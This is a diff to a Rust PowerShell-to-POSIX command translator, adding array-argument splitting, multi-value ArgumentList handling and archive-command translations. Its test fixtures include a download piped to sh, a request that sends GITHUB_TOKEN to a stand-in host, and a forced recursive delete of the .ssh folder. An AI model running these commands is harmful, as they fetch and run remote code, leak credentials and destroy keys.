@@ -126,7 +126,14 @@ fn command(node: Node<'_>, src: &str, ctx: &Context) -> Option<Command> {
                                 None => args.push(Arg::Param(p.to_ascii_lowercase())),
                             }
                         }
-                        _ => args.push(value(e, src, ctx)?),
+                        // `A, B`: an array, one value per element.
+                        _ => {
+                            let raw = text(e, src)?;
+                            if e.kind() == "script_block_expression" || raw.starts_with('{') {
+                                return None;
+                            }
+                            args.extend(elements(raw).into_iter().map(|w| word(w, ctx)));
+                        }
                     }
                 }
             }
@@ -147,6 +154,28 @@ fn value(node: Node<'_>, src: &str, ctx: &Context) -> Option<Arg> {
         return None;
     }
     Some(word(raw, ctx))
+}
+
+/// The elements of an array argument (`.\\bin, .\\obj`, `"a","b"`): split at commas outside
+/// quotes; one element for anything else.
+fn elements(raw: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let mut quote: Option<u8> = None;
+    let mut start = 0;
+    for (i, b) in raw.bytes().enumerate() {
+        match (quote, b) {
+            (None, b'\'' | b'"') => quote = Some(b),
+            (Some(q), c) if c == q => quote = None,
+            (None, b',') => {
+                out.push(raw.get(start..i).unwrap_or("").trim());
+                start = i + 1;
+            }
+            _ => {}
+        }
+    }
+    out.push(raw.get(start..).unwrap_or("").trim());
+    out.retain(|e| !e.is_empty());
+    out
 }
 
 /// A value's text as PowerShell passes it.
@@ -245,6 +274,22 @@ impl<'a> Parsed<'a> {
             }
             _ => None,
         })
+    }
+
+    /// Every value after a parameter that is one of `names` (an array's elements), up to the
+    /// next parameter.
+    fn named_all(&self, names: &[&str]) -> Vec<&'a Arg> {
+        let Some(at) = self.args.iter().position(|a| {
+            matches!(a, Arg::Param(p) if p.len() >= 2 && names.iter().any(|n| n.starts_with(p.as_str())))
+        }) else {
+            return Vec::new();
+        };
+        self.args
+            .get(at + 1..)
+            .unwrap_or(&[])
+            .iter()
+            .take_while(|a| matches!(a, Arg::Value { .. }))
+            .collect()
     }
 
     /// Values not taken by a parameter. `switches` are the parameters that take no value.
@@ -391,10 +436,17 @@ fn posix(cmd: &Command, piped: bool, ctx: &Context) -> Option<String> {
             let Arg::Value { text, exact: true } = file else {
                 return None;
             };
-            let args = match p.named(&["argumentlist"]) {
-                Some(Arg::Value { text, exact: true }) => argument_list(text)?,
-                Some(_) => return None,
-                None => String::new(),
+            let list = p.named_all(&["argumentlist"]);
+            let args = match list.as_slice() {
+                [] => String::new(),
+                [Arg::Value { text, exact: true }] => argument_list(text)?,
+                many if many
+                    .iter()
+                    .all(|a| matches!(a, Arg::Value { exact: true, .. })) =>
+                {
+                    many.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" ")
+                }
+                _ => return None,
             };
             format!(
                 "{} {args}",
@@ -420,6 +472,27 @@ fn posix(cmd: &Command, piped: bool, ctx: &Context) -> Option<String> {
             } else {
                 format!("touch -- {target}")
             }
+        }
+        "expand-archive" => {
+            let zip = p
+                .named(&["path", "literalpath"])
+                .or_else(|| p.positionals(FILE_SWITCHES).first().copied())?;
+            let dest = p
+                .named(&["destinationpath"])
+                .or_else(|| p.positionals(FILE_SWITCHES).get(1).copied());
+            match dest {
+                Some(d) => format!("unzip -o {} -d {}", quote(zip), quote(d)),
+                None => format!("unzip -o {}", quote(zip)),
+            }
+        }
+        "compress-archive" => {
+            let dest = p.named(&["destinationpath"])?;
+            let sources: Vec<String> = p
+                .named(&["path", "literalpath"])
+                .into_iter()
+                .map(quote)
+                .collect();
+            format!("zip -r {} {}", quote(dest), sources.join(" "))
         }
         "select-string" | "sls" => {
             let pattern = p
@@ -534,6 +607,10 @@ mod tests {
                 "curl -s 'https://x.example/a.ps1' | sh",
             ),
             ("gci env:", "env"),
+            (
+                "Remove-Item -Recurse -Force .\\bin, ~\\.ssh",
+                "rm -f -r -- './bin' '/home/u/.ssh'",
+            ),
             (
                 "irm \"https://x.example/?k=$env:GITHUB_TOKEN\"",
                 "curl -s \"https://x.example/?k=${GITHUB_TOKEN}\"",
